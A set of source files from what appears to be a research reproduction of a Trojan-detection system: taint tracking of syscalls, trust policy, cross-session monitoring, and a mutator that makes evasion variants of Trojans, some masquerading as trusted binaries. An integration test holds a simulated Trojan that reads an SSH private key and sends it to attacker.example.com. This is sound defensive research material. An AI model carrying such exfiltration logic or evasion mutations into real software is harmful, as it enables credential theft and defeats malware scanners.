        # Sniff from guest memory: the kernel only attaches the bytes to
        # the info dict after the call executes, but this event fires
        # before (the analysis can veto the write).
        content = sniff_content(proc.memory.read_bytes(buf, min(count, 64)))
        event = DataTransferEvent(
            **self._base(proc, shadow, now, call_name),
            direction="write",
            resource=ResourceId(open_file.kind, open_file.name),
            data_tags=data_tags,
            resource_origin=self._fd_origin(open_file),
            length=count,
            server_socket=server,  # type: ignore[arg-type]
            server_socket_origin=open_file.meta.get(
                "server_origin", EMPTY
            ),  # type: ignore[arg-type]
            source_origins=self._source_origins(shadow, data_tags),
            content_type=content,
            **self._source_server(shadow, data_tags),
        )
        return [event]

    def _socketcall_pre(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        args: Args,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        sub = info.get("socketcall")
        if sub == "send":
            return self._write_event(
                proc, shadow, now, "SYS_socketcall:send", info
            )
        if sub in ("connect", "bind"):
            sockaddr_ptr = info.get("sockaddr_ptr")
            if sockaddr_ptr is None:
                return []
            origin = self._sockaddr_origin(shadow, int(sockaddr_ptr))
            info["_origin_tags"] = origin
            event = ResourceAccessEvent(
                **self._base(proc, shadow, now, f"SYS_socketcall:{sub}"),
                resource=ResourceId(
                    ResourceKind.SOCKET, str(info.get("addr_str", "?"))
                ),
                origin=origin,
            )
            return [event]
        if sub == "listen":
            open_file = proc.get_fd(int(info.get("fd", -1)))
            if open_file is None:
                return []
            event = ResourceAccessEvent(
                **self._base(proc, shadow, now, "SYS_socketcall:listen"),
                resource=ResourceId(ResourceKind.SOCKET, open_file.name),
                origin=self._fd_origin(open_file),
            )
            return [event]
        return []

    def _sockaddr_origin(self, shadow: ProcessShadow, ptr: int) -> TagSet:
        """Provenance of the socket address value (port + ip cells)."""
        if not self.config.track_dataflow:
            return _UNKNOWN
        return shadow.memory.get(ptr + 1).union(shadow.memory.get(ptr + 2))

    # -- post-execution effects ---------------------------------------------------
    def post_effects(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        sysno: int,
        args: Args,
        result: int,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        events: List[SecurityEvent] = []
        if self.config.track_dataflow:
            # Kernel-produced return values carry no program data...
            shadow.regs.set("eax", EMPTY)
            if sysno == SYS_RESOLVE and result >= 0:
                # ...except resolution results, which come from the DNS
                # backing store (this is the section 7.2 semantic gap the
                # routine short circuit corrects at RET time).
                shadow.regs.set("eax", _HOSTS_FILE_TAG)
                if self.provenance is not None:
                    self.provenance.record_source(
                        _HOSTS_FILE_TAG, pid=proc.pid,
                        tick=now - proc.start_time,
                        resource="/etc/hosts", via="SYS_resolve",
                    )

        if sysno in (SYS_OPEN, SYS_CREAT) and result >= 0:
            open_file = info.get("open_file")
            if isinstance(open_file, OpenFile):
                origin = info.get("_origin_tags", EMPTY)
                open_file.meta["origin"] = origin
                self._remember_origin(
                    shadow, DataSource.FILE, open_file.name, origin
                )
        elif sysno == SYS_BRK and args[0] != 0:
            events.extend(self._brk_event(proc, shadow, now, args[0]))
        elif sysno == SYS_READ and result > 0:
            events.extend(
                self._read_effects(proc, shadow, now, "SYS_read", result, info)
            )
        elif sysno == SYS_SOCKETCALL:
            events.extend(
                self._socketcall_post(proc, shadow, now, result, info)
            )
        return events

    def _brk_event(
        self, proc: Process, shadow: ProcessShadow, now: int, new_brk: int
    ) -> List[SecurityEvent]:
        from repro.isa.memory import HEAP_BASE

        previous = int(proc.meta.get("harrier.prev_brk", HEAP_BASE))
        delta = new_brk - previous
        proc.meta["harrier.prev_brk"] = new_brk
        if delta <= 0:
            return []
        event = MemoryEvent(
            **self._base(proc, shadow, now, "SYS_brk"),
            total_allocated=max(new_brk - HEAP_BASE, 0),
            delta=delta,
        )
        return [event]

    def _read_effects(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        call_name: str,
        nread: int,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        open_file: Optional[OpenFile] = info.get("open_file")  # type: ignore
        if open_file is None:
            return []
        buf = int(info.get("buf", 0))
        data_tags = self._tag_for_read(proc, open_file)
        if self.config.track_dataflow:
            shadow.memory.set_range(buf, nread, data_tags)
            if self.provenance is not None:
                self.provenance.record_source(
                    data_tags, pid=proc.pid, tick=now - proc.start_time,
                    resource=open_file.name, via=call_name,
                )
        effective = data_tags if self.config.track_dataflow else _UNKNOWN
        event = DataTransferEvent(
            **self._base(proc, shadow, now, call_name),
            direction="read",
            resource=ResourceId(open_file.kind, open_file.name),
            data_tags=effective,
            resource_origin=self._fd_origin(open_file),
            length=nread,
            server_socket=open_file.meta.get("server"),  # type: ignore
            server_socket_origin=open_file.meta.get("server_origin", EMPTY),  # type: ignore
            source_origins=self._source_origins(shadow, effective),
            content_type=sniff_content(info.get("data", b"") or b""),
            **self._source_server(shadow, effective),
        )
        return [event]

    def _tag_for_read(self, proc: Process, open_file: OpenFile) -> TagSet:
        if open_file.kind is ResourceKind.CONSOLE:
            if self.config.complete_dataflow:
                return _USER_INPUT
            # Incomplete-prototype mode: the paper's prototype mis-attributed
            # console input to the program binary (the pico anecdote).
            return self.dataflow.binary_tag(proc.command)
        source = _READ_SOURCE.get(open_file.kind)
        if source is None:
            return EMPTY
        return TagSet.of(source, open_file.name)

    def _socketcall_post(
        self,
        proc: Process,
        shadow: ProcessShadow,
        now: int,
        result: int,
        info: Dict[str, object],
    ) -> List[SecurityEvent]:
        sub = info.get("socketcall")
        if sub == "recv" and result > 0:
            return self._read_effects(
                proc, shadow, now, "SYS_socketcall:recv", result, info
            )
        if sub in ("connect", "bind") and result >= 0:
            open_file = info.get("open_file")
            if isinstance(open_file, OpenFile):
                origin = info.get("_origin_tags", EMPTY)
                open_file.meta["origin"] = origin
                self._remember_origin(
                    shadow, DataSource.SOCKET, open_file.name, origin
                )
        elif sub == "accept" and result >= 0:
            open_file = info.get("open_file")
            listener = info.get("listener_open")
            if isinstance(open_file, OpenFile):
                open_file.meta["origin"] = EMPTY
                open_file.meta["server"] = info.get("listener_addr")
                server_origin = EMPTY
                if isinstance(listener, OpenFile):
                    server_origin = listener.meta.get("origin", EMPTY)
                    open_file.meta["server_origin"] = server_origin
                self._remember_origin(
                    shadow, DataSource.SOCKET, open_file.name, EMPTY
                )
                shadow.server_sockets[open_file.name] = (
                    info.get("listener_addr"),
                    server_origin,
                )
        return []
