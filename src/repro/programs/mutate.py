"""Seed-deterministic, semantics-preserving mutation of guest sources.

The adversarial sweep (``repro sweep``, :mod:`repro.advers`) treats
Trojan detection as a hide-and-seek game: every Table 4-8 Trojan is a
*parent* from which thousands of variants are derived, each rewritten
just enough to look different to a syntactic scanner while provably
doing the same thing.  A detector worth its name must classify every
variant exactly like its parent — any variant that lands on a weaker
verdict is an *evasion* and gets filed in
:mod:`repro.programs.adversarial`.

Mutation classes (:data:`MUTATION_CLASSES`):

``rename-labels``
    Alpha-rename every label defined by the source (``main`` excepted);
    references in instruction operands and ``.word`` tables follow.
``rename-paths``
    Reinstall the program under a different path (its image name — the
    name its hardcoded strings are taint-tagged with), sometimes
    masquerading as a trusted or standard binary.
``substitute``
    Equivalent-instruction substitution: ``mov r, x`` becomes
    ``push x`` / ``pop r`` (same value, same taint, no flags), and
    ``add r, n`` flips to ``sub r, -n`` (same result, same flags).
``deadcode``
    Insert never-executed instructions: bare ``nop``\\ s and
    jumped-over dead blocks (``jmp L; <junk>; L: nop``).
``reorder``
    Permute independent top-level blocks — chunks that start at a label,
    are never fallen into, and end in an unconditional transfer — plus
    labelled data groups (relocation makes data order immaterial).
``split-merge``
    Split basic blocks with explicit ``jmp``-to-next bridges and merge
    blocks by deleting unreferenced labels.
``syscall-order``
    Swap adjacent independent ``mov`` pairs (classically: the order in
    which syscall argument registers are loaded).

Every mutation here is chosen to be *verdict-preserving by
construction* on the mini-ISA: none touches flags between a compare and
its branch (only ALU ops and ``cmp`` set flags), none changes the data
values or taint tags a run produces, and none changes the number of
times any original instruction executes.  Determinism contract:
``(parent name, class, seed)`` fully determines the variant — the RNG
is seeded with that string triple (hash-independent across processes
and ``PYTHONHASHSEED``), and no mutation iterates an unordered set.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.isa.assembler import (
    SourceStmt,
    is_symbol_token,
    parse_source,
    render_source,
)
from repro.isa.registers import is_register
from repro.programs.base import Workload

#: The variant classes, in matrix order.
MUTATION_CLASSES: Tuple[str, ...] = (
    "rename-labels",
    "rename-paths",
    "substitute",
    "deadcode",
    "reorder",
    "split-merge",
    "syscall-order",
)

#: Mnemonics after which execution never falls through.
_UNCONDITIONAL = frozenset({"jmp", "ret", "hlt"})

#: Masquerade targets for ``rename-paths``: the trusted shared objects
#: and a few of the standard binaries HTH pre-registers stubs for.  The
#: trusted names are the interesting probes — a detector that extends
#: name-based trust to the monitored program itself goes blind here
#: (the evasion that produced ``PolicyConfig.distrusting``).
_MASQUERADE_PATHS: Tuple[str, ...] = (
    "/lib/libc.so",
    "/bin/sh",
    "/bin/ls",
    "/usr/sbin/sendmail",
)

_INSTALL_DIRS: Tuple[str, ...] = (
    "/bin", "/tmp", "/usr/local/bin", "/home/user", "/var/spool"
)

_ALPHA = "abcdefghijklmnopqrstuvwxyz"


@dataclass(frozen=True)
class MutationRecipe:
    """How a variant was derived: replayable coordinates + the op log."""

    parent: str
    klass: str
    seed: int
    ops: Tuple[str, ...]

    def to_dict(self) -> Dict[str, object]:
        return {
            "parent": self.parent,
            "klass": self.klass,
            "seed": self.seed,
            "ops": list(self.ops),
        }


def variant_name(parent_name: str, klass: str, seed: int) -> str:
    """The deterministic name of one variant (computable without
    mutating — sweep planning builds refs from names alone)."""
    return f"{parent_name}~{klass}#{seed}"


# -- small helpers -----------------------------------------------------------

def _split_sections(
    stmts: Sequence[SourceStmt],
) -> Tuple[List[SourceStmt], List[SourceStmt]]:
    text = [s for s in stmts if s.section == ".text"]
    data = [s for s in stmts if s.section == ".data"]
    return text, data


def _defined_labels(stmts: Sequence[SourceStmt]) -> List[str]:
    """All labels defined by the source, in definition order."""
    out: List[str] = []
    for stmt in stmts:
        for label in stmt.labels:
            if label not in out:
                out.append(label)
    return out


def _referenced_symbols(stmts: Sequence[SourceStmt]) -> List[str]:
    """Every symbol spelled in an operand, in reference order."""
    out: List[str] = []
    for stmt in stmts:
        if stmt.mnemonic in (".asciz", ".ascii", ".space"):
            continue
        for op in stmt.operands:
            tok = op.strip()
            if is_symbol_token(tok) and tok not in out:
                out.append(tok)
    return out


def _fresh_label(rng: random.Random, taken: set) -> str:
    while True:
        name = "q" + "".join(rng.choice(_ALPHA) for _ in range(7))
        if name not in taken:
            taken.add(name)
            return name


def _clone(stmt: SourceStmt, **changes: object) -> SourceStmt:
    fresh = replace(
        stmt,
        labels=list(stmt.labels),
        operands=list(stmt.operands),
    )
    for key, value in changes.items():
        setattr(fresh, key, value)
    return fresh


def _instr(mnemonic: str, operands: Sequence[str],
           labels: Sequence[str] = ()) -> SourceStmt:
    return SourceStmt(".text", list(labels), mnemonic, list(operands))


# -- mutation classes --------------------------------------------------------

def _mut_rename_labels(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    defined = [
        label for label in _defined_labels(stmts)
        if label != "main" and not is_register(label.lower())
    ]
    taken = set(defined) | set(_referenced_symbols(stmts)) | {"main"}
    mapping = {old: _fresh_label(rng, taken) for old in defined}
    out: List[SourceStmt] = []
    for stmt in stmts:
        fresh = _clone(stmt)
        fresh.labels = [mapping.get(label, label) for label in fresh.labels]
        if stmt.mnemonic not in (".asciz", ".ascii", ".space"):
            fresh.operands = [
                mapping.get(op.strip(), op) for op in fresh.operands
            ]
        out.append(fresh)
    ops = [f"rename {old}->{new}" for old, new in mapping.items()]
    return out, ops or ["no-op (nothing to rename)"]


def _new_install_path(
    rng: random.Random, old: str, stmts: Sequence[SourceStmt]
) -> Tuple[str, str]:
    """(new path, op description).  One in four variants masquerades.

    The new path must never be one the program itself mentions in its
    string data: installing an execve Trojan *as* the binary it execs
    (or a system() Trojan as a command in its pipeline) turns the
    variant into a self-exec loop — a different program, not a
    semantics-preserving rename.  ``system()`` callers additionally
    exec ``/bin/sh`` through libc's *own* hardcoded string, so that
    path is off limits for them even though it never appears in the
    parent's source.
    """
    blob = " ".join(
        op
        for stmt in stmts
        if stmt.mnemonic in (".asciz", ".ascii")
        for op in stmt.operands
    )
    if any(
        stmt.mnemonic == "call" and "system" in stmt.operands
        for stmt in stmts
    ):
        blob += " /bin/sh"
    if rng.random() < 0.25:
        candidates = [
            p for p in _MASQUERADE_PATHS if p != old and p not in blob
        ]
        if candidates:
            path = rng.choice(candidates)
            return path, f"masquerade {old}->{path}"
    while True:
        base = "".join(rng.choice(_ALPHA) for _ in range(8))
        path = f"{rng.choice(_INSTALL_DIRS)}/{base}"
        if path != old and path not in blob:
            return path, f"reinstall {old}->{path}"


def _mut_substitute(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    candidates: List[int] = []
    for index, stmt in enumerate(stmts):
        if not stmt.is_instr or len(stmt.operands) != 2:
            continue
        dst = stmt.operands[0].strip().lower()
        src = stmt.operands[1].strip()
        if stmt.mnemonic == "mov":
            # push/pop must not juggle the stack registers themselves.
            if dst not in ("esp", "ebp") and src.lower() != "esp" \
                    and not src.startswith("["):
                candidates.append(index)
        elif stmt.mnemonic in ("add", "sub"):
            try:
                int(src, 0)
            except ValueError:
                continue
            candidates.append(index)
    selected = [i for i in candidates if rng.random() < 0.5]
    if not selected and candidates:
        selected = [candidates[rng.randrange(len(candidates))]]
    chosen = set(selected)
    out: List[SourceStmt] = []
    ops: List[str] = []
    for index, stmt in enumerate(stmts):
        if index not in chosen:
            out.append(_clone(stmt))
            continue
        dst = stmt.operands[0].strip()
        src = stmt.operands[1].strip()
        if stmt.mnemonic == "mov":
            out.append(_instr("push", [src], labels=stmt.labels))
            out.append(_instr("pop", [dst]))
            ops.append(f"mov {dst},{src} -> push/pop")
        else:
            value = int(src, 0)
            flipped = "sub" if stmt.mnemonic == "add" else "add"
            out.append(
                _instr(flipped, [dst, str(-value)], labels=stmt.labels)
            )
            ops.append(f"{stmt.mnemonic} {dst},{src} -> {flipped} {-value}")
    return out, ops or ["no-op (nothing to substitute)"]


_JUNK_REGS = ("eax", "ebx", "ecx", "edx", "esi", "edi")


def _junk_instr(rng: random.Random) -> SourceStmt:
    reg = rng.choice(_JUNK_REGS)
    shape = rng.randrange(3)
    if shape == 0:
        return _instr("add", [reg, str(rng.randrange(1, 9999))])
    if shape == 1:
        return _instr("mov", [reg, str(rng.randrange(0, 9999))])
    return _instr("xor", [reg, reg])


def _mut_deadcode(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    text, data = _split_sections(stmts)
    taken = set(_defined_labels(stmts)) | set(_referenced_symbols(stmts))
    count = min(rng.randint(2, 4), len(text) + 1)
    positions = sorted(rng.sample(range(len(text) + 1), count), reverse=True)
    ops: List[str] = []
    for pos in positions:
        if rng.random() < 0.5:
            text[pos:pos] = [_instr("nop", [])]
            ops.append(f"nop@{pos}")
        else:
            skip = _fresh_label(rng, taken)
            junk = [_junk_instr(rng) for _ in range(rng.randint(1, 3))]
            block = [_instr("jmp", [skip])] + junk + [
                _instr("nop", [], labels=[skip])
            ]
            text[pos:pos] = block
            ops.append(f"dead-block({len(junk)})@{pos}")
    ops.reverse()  # report in source order
    return text + data, ops


def _chunk_text(text: List[SourceStmt]) -> List[List[SourceStmt]]:
    """Split the text section at never-fallen-into labelled boundaries."""
    chunks: List[List[SourceStmt]] = []
    current: List[SourceStmt] = []
    for index, stmt in enumerate(text):
        boundary = (
            index > 0
            and stmt.labels
            and text[index - 1].mnemonic in _UNCONDITIONAL
        )
        if boundary and current:
            chunks.append(current)
            current = []
        current.append(stmt)
    if current:
        chunks.append(current)
    return chunks


def _mut_reorder(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    text, data = _split_sections(stmts)
    ops: List[str] = []
    # -- text: permute independent trailing chunks (entry chunk pinned).
    chunks = _chunk_text(text)
    movable = [
        j for j in range(1, len(chunks))
        if chunks[j][-1].mnemonic in _UNCONDITIONAL
    ]
    if len(movable) > 1:
        perm = movable[:]
        rng.shuffle(perm)
        reordered = {slot: chunks[src] for slot, src in zip(movable, perm)}
        chunks = [
            reordered.get(j, chunk) for j, chunk in enumerate(chunks)
        ]
        if perm != movable:
            ops.append(f"reorder text chunks {movable} -> {perm}")
    text = [
        _clone(stmt) for chunk in chunks for stmt in chunk
    ]
    # -- data: labelled groups are address-free thanks to relocation.
    groups: List[List[SourceStmt]] = []
    current: List[SourceStmt] = []
    for stmt in data:
        if stmt.labels and current:
            groups.append(current)
            current = []
        current.append(stmt)
    if current:
        groups.append(current)
    movable_data = [j for j in range(len(groups)) if groups[j][0].labels]
    if len(movable_data) > 1:
        perm = movable_data[:]
        rng.shuffle(perm)
        reordered = {
            slot: groups[src] for slot, src in zip(movable_data, perm)
        }
        groups = [
            reordered.get(j, group) for j, group in enumerate(groups)
        ]
        if perm != movable_data:
            ops.append(f"reorder data groups {movable_data} -> {perm}")
    data = [_clone(stmt) for group in groups for stmt in group]
    return text + data, ops or ["no-op (no independent blocks)"]


def _mut_split_merge(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    text, data = _split_sections(stmts)
    text = [_clone(stmt) for stmt in text]
    taken = set(_defined_labels(stmts)) | set(_referenced_symbols(stmts))
    ops: List[str] = []
    # -- split: explicit jmp-to-next bridges at random block points.
    if len(text) > 1:
        count = min(rng.randint(1, 3), len(text) - 1)
        for pos in sorted(rng.sample(range(1, len(text)), count),
                          reverse=True):
            bridge = _fresh_label(rng, taken)
            text[pos].labels.insert(0, bridge)
            text.insert(pos, _instr("jmp", [bridge]))
            ops.append(f"split@{pos}")
        ops.reverse()
    # -- merge: drop a random subset of unreferenced labels.
    referenced = set(_referenced_symbols(text + data))
    for stmt in text:
        keep: List[str] = []
        for label in stmt.labels:
            if (label != "main" and label not in referenced
                    and rng.random() < 0.5):
                ops.append(f"merge drop {label}")
            else:
                keep.append(label)
        stmt.labels = keep
    return text + data, ops or ["no-op (nothing to split)"]


def _mut_syscall_order(
    stmts: List[SourceStmt], rng: random.Random
) -> Tuple[List[SourceStmt], List[str]]:
    text, data = _split_sections(stmts)
    text = [_clone(stmt) for stmt in text]
    candidates: List[int] = []
    for i in range(len(text) - 1):
        a, b = text[i], text[i + 1]
        if a.mnemonic != "mov" or b.mnemonic != "mov":
            continue
        if len(a.operands) != 2 or len(b.operands) != 2:
            continue
        if b.labels:  # a jump may enter between the pair
            continue
        a_dst = a.operands[0].strip().lower()
        b_dst = b.operands[0].strip().lower()
        a_src = a.operands[1].strip().lower()
        b_src = b.operands[1].strip().lower()
        # Independent iff neither reads the other's destination.
        if a_dst == b_dst or b_src == a_dst or a_src == b_dst:
            continue
        candidates.append(i)
    selected: List[int] = []
    last = -2
    for i in candidates:
        if i <= last + 1:
            continue  # pairs must not overlap
        if rng.random() < 0.6:
            selected.append(i)
            last = i
    if not selected and candidates:
        selected = [candidates[rng.randrange(len(candidates))]]
    ops: List[str] = []
    for i in selected:
        a, b = text[i], text[i + 1]
        a.mnemonic, b.mnemonic = b.mnemonic, a.mnemonic
        a.operands, b.operands = b.operands, a.operands
        ops.append(
            f"swap mov@{i}: {b.operands[0]}<->{a.operands[0]}"
        )
    return text + data, ops or ["no-op (no independent mov pairs)"]


_MUTATORS: Dict[
    str,
    Callable[[List[SourceStmt], random.Random],
             Tuple[List[SourceStmt], List[str]]],
] = {
    "rename-labels": _mut_rename_labels,
    "substitute": _mut_substitute,
    "deadcode": _mut_deadcode,
    "reorder": _mut_reorder,
    "split-merge": _mut_split_merge,
    "syscall-order": _mut_syscall_order,
}


# -- the public mutator ------------------------------------------------------

def mutate_workload(parent: Workload, klass: str, seed: int) -> Workload:
    """One semantics-preserving variant of ``parent``.

    The variant is a first-class :class:`Workload` carrying the parent's
    expected verdict and rules, the same setup/argv/env/stdin, and a
    :class:`MutationRecipe` recording exactly how it was derived.
    """
    if klass not in MUTATION_CLASSES:
        raise ValueError(
            f"unknown mutation class {klass!r}; "
            f"choose from {', '.join(MUTATION_CLASSES)}"
        )
    rng = random.Random(f"{parent.name}|{klass}|{seed}")
    stmts = parse_source(parent.source)
    program_path = parent.program_path
    argv = list(parent.argv) if parent.argv is not None else None
    if klass == "rename-paths":
        old = parent.program_path
        program_path, op = _new_install_path(rng, old, stmts)
        if argv:
            argv = [program_path if arg == old else arg for arg in argv]
        mutated, ops = [_clone(s) for s in stmts], [op]
    else:
        mutated, ops = _MUTATORS[klass](stmts, rng)
    return replace(
        parent,
        name=variant_name(parent.name, klass, seed),
        program_path=program_path,
        source=render_source(mutated),
        description=f"{klass} variant of {parent.name!r} (seed {seed})",
        argv=argv,
        recipe=MutationRecipe(parent.name, klass, seed, tuple(ops)),
    )


def variants(parent_name: str, klass: str, seed: int) -> List[Workload]:
    """Fleet-facing factory: the single variant at these coordinates.

    This is the ``(module, factory)`` target of sweep
    :class:`~repro.fleet.refs.WorkloadRef`\\ s — ``params=(parent, klass,
    seed)`` resolves O(1) in any worker process, no shared state needed.
    """
    from repro.programs.registry import get

    return [mutate_workload(get(parent_name), klass, int(seed))]
