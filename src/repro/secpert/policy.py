"""Policy configuration and trust filters (paper sections 4 and A.2).

The CLIPS prototype exposes ``?*RARE_FREQUENCY*`` / ``?*LONG_TIME*``
globals and ``filter_binary`` / ``filter_socket`` functions that drop
trusted resources from an origin list ("In our prototype we trust the
libc and ld-linux shared objects.  We do not trust any sockets although
our implementation does support this.").  This module is the equivalent.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import FrozenSet, Tuple

from repro.taint.tags import DataSource, TagSet

#: Default trusted shared objects: guest libc plus the loader shim (the
#: paper trusts libc.so and ld-linux.so).
DEFAULT_TRUSTED_BINARIES: FrozenSet[str] = frozenset(
    {"/lib/libc.so", "[startup]"}
)


@dataclass(frozen=True)
class PolicyConfig:
    #: A basic block executed fewer than this many times is "rare"
    #: (?*RARE_FREQUENCY*).
    rare_frequency: int = 2
    #: An event this long after program start is "a while" into execution
    #: (?*LONG_TIME*, virtual ticks).
    long_time: int = 5000
    #: Total process creations beyond this -> Low warning (section 4.2).
    process_count_threshold: int = 8
    #: Creations inside the rate window beyond this -> Medium warning.
    process_rate_threshold: int = 5
    #: Heap cells allocated beyond this -> Low warning (section 10 item 4;
    #: the Trojan.Vundo memory-drain pattern).
    memory_low_threshold: int = 50_000
    #: ... and beyond this -> Medium warning.
    memory_high_threshold: int = 200_000
    trusted_binaries: FrozenSet[str] = DEFAULT_TRUSTED_BINARIES
    #: Trusted remote endpoints ("we do not trust any sockets, although
    #: our implementation does support this").
    trusted_sockets: FrozenSet[str] = frozenset()

    # -- filter functions (appendix A.2) -----------------------------------
    def filter_binary(self, origin: TagSet) -> Tuple[str, ...]:
        """Untrusted binaries among an origin tag set (suspicious ones)."""
        return tuple(
            name
            for name in origin.names_for(DataSource.BINARY)
            if name not in self.trusted_binaries
        )

    def filter_socket(self, origin: TagSet) -> Tuple[str, ...]:
        """Untrusted sockets among an origin tag set."""
        return tuple(
            name
            for name in origin.names_for(DataSource.SOCKET)
            if name not in self.trusted_sockets
        )

    # -- evolution -----------------------------------------------------------
    def distrusting(self, name: str) -> "PolicyConfig":
        """A copy with ``name`` dropped from the trusted-binaries set.

        Used when the monitored program itself carries a trusted name
        (a Trojan masquerading as ``/lib/libc.so``): trust is a property
        of the *shared objects a program links against*, never of the
        program under observation.
        """
        return replace(
            self, trusted_binaries=self.trusted_binaries - {name}
        )

    # -- derived predicates ---------------------------------------------------
    def is_hardcoded(self, origin: TagSet) -> bool:
        """The identifier came (at least partly) from an untrusted binary."""
        return bool(self.filter_binary(origin))

    def from_socket(self, origin: TagSet) -> bool:
        return bool(self.filter_socket(origin))

    def from_user(self, origin: TagSet) -> bool:
        return origin.has_source(DataSource.USER_INPUT)

    def is_rare(self, frequency: int, time: int) -> bool:
        """Rarely-executed code far into the run (section 4.1 rule 3)."""
        return frequency < self.rare_frequency and time > self.long_time
