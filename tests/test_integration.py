"""Cross-cutting integration tests: example scripts stay runnable, the
README quickstart works, and whole-pipeline behaviours hold together."""

import pathlib
import runpy

import pytest

EXAMPLES_DIR = pathlib.Path(__file__).parent.parent / "examples"


@pytest.mark.parametrize(
    "script",
    sorted(p.name for p in EXAMPLES_DIR.glob("*.py")),
)
def test_example_scripts_run(script, capsys):
    """Every shipped example must execute end-to-end."""
    runpy.run_path(str(EXAMPLES_DIR / script), run_name="__main__")
    out = capsys.readouterr().out
    assert out.strip()  # each example narrates something


class TestReadmeQuickstart:
    def test_readme_code_block(self):
        from repro import HTH, Verdict
        from repro.isa import assemble
        from repro.kernel.network import SinkPeer

        TROJAN = r"""
main:
    mov ebx, secret
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
    mov edi, eax
    mov ebx, home
    call gethostbyname
    mov ecx, eax
    call socket
    mov ebx, eax
    mov edx, 31337
    push ebx
    call connect_addr
    pop ebx
    mov ecx, buf
    mov edx, edi
    call write
    mov eax, 0
    ret
.data
secret: .asciz "/home/user/.ssh/id_rsa"
home:   .asciz "attacker.example.com"
buf:    .space 96
"""
        hth = HTH()
        hth.fs.write_text("/home/user/.ssh/id_rsa", "-----PRIVATE KEY-----")
        hth.network.add_peer(
            "attacker.example.com", 31337, lambda: SinkPeer("c2")
        )
        report = hth.run(assemble("/usr/bin/applet", TROJAN))
        assert report.verdict is Verdict.HIGH
        rendered = report.render_warnings()
        assert "Data Flowing From: /home/user/.ssh/id_rsa" in rendered
        assert "attacker.example.com:31337" in rendered


class TestWholePipeline:
    def test_kill_on_medium_stops_fork_bomb(self):
        """Enforcement: killing at Medium caps a fork bomb's process
        count near the rate threshold."""
        from repro.programs.micro.resource import table5_workloads
        from repro.secpert.warnings import Severity

        workload = [w for w in table5_workloads()
                    if w.name == "tree forker"][0]
        hth = workload.build_machine()
        hth.harrier.decision = (
            lambda warning: warning.severity < Severity.MEDIUM
        )
        report = hth.run(workload.image(), argv=workload.argv)
        killed = [p for p in hth.kernel.procs.values()
                  if p.killed_by_monitor]
        assert killed  # at least one process was stopped mid-bomb

    def test_fresh_machines_are_independent(self):
        from repro.core.hth import HTH
        from repro.isa import assemble

        source = "main:\n  mov eax, 0\n  ret"
        a = HTH()
        b = HTH()
        a.fs.write_text("/only-in-a", "x")
        a.run(assemble("/bin/t", source))
        b.run(assemble("/bin/t", source))
        assert a.fs.exists("/only-in-a")
        assert not b.fs.exists("/only-in-a")

    def test_two_programs_sequential_on_one_machine(self):
        """HTH.run can be called repeatedly; state persists (the
        cross-session substrate)."""
        from repro.core.hth import HTH
        from repro.isa import assemble

        writer = assemble(
            "/bin/writer",
            """
main:
    mov ebx, path
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, msg
    call fputs
    mov eax, 0
    ret
.data
path: .asciz "/tmp/persist"
msg: .asciz "left behind"
""",
        )
        reader = assemble(
            "/bin/reader",
            """
main:
    mov ebx, path
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 32
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
path: .asciz "/tmp/persist"
buf: .space 32
""",
        )
        hth = HTH()
        hth.run(writer)
        report = hth.run(reader)
        assert "left behind" in report.console_output

    def test_full_corpus_no_guest_faults(self):
        """No workload in the entire evaluation corpus crashes the VM."""
        from repro.programs.exploits.registry import table8_workloads
        from repro.programs.extensions import extension_workloads
        from repro.programs.macro.registry import macro_workloads
        from repro.programs.micro.execflow import table4_workloads
        from repro.programs.micro.resource import table5_workloads
        from repro.programs.trusted.registry import table7_workloads

        corpus = (
            table4_workloads() + table5_workloads() + table7_workloads()
            + table8_workloads() + macro_workloads() + extension_workloads()
        )
        for workload in corpus:
            report = workload.run()
            assert not report.faults, (workload.name, report.faults)
