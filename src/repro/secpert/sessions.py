"""Cross-session monitoring (paper section 10, item 6).

"Expanding the rules to take into account a program's behavior during
several different executions ... when data is downloaded to a file we
will be able to see how that file is being used in later executions
instead of immediately producing an error."

Mechanics:

* a :class:`SessionStore` persists per-program history — which files
  each program dropped, and in which session;
* :class:`CrossSessionAnalyzer` wraps a regular :class:`Secpert` and
  rewrites its advice:

  - a first-session hardcoded-file *drop* warning is **deferred**: the
    High is replaced by a Low notice saying the file will be tracked;
  - an execve (or open) of a file dropped in an *earlier* session
    **escalates** to High, with the history spelled out — the paper's
    "replace the rule ... with a set of rules that track (potentially in
    later executions) how that file is being used".

:class:`CrossSessionMonitor` runs sessions on one persistent machine
(the filesystem survives between executions, like a real host).
"""

from __future__ import annotations

import json
import pathlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, TYPE_CHECKING, Union

from repro.harrier.events import ResourceAccessEvent, SecurityEvent
from repro.secpert.policy import PolicyConfig
from repro.secpert.secpert import Secpert
from repro.secpert.warnings import SecurityWarning, Severity

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.report import RunReport, Verdict

#: Rules whose first-session warnings are deferred for later correlation.
_DEFERRABLE_RULES = frozenset(
    {"check_binary_to_file", "check_executable_download"}
)
#: Calls that count as "using" a previously dropped file.
_USE_CALLS = frozenset({"SYS_execve", "SYS_open", "SYS_chmod"})


@dataclass
class ProgramHistory:
    """What the store remembers about one program across sessions."""

    sessions: int = 0
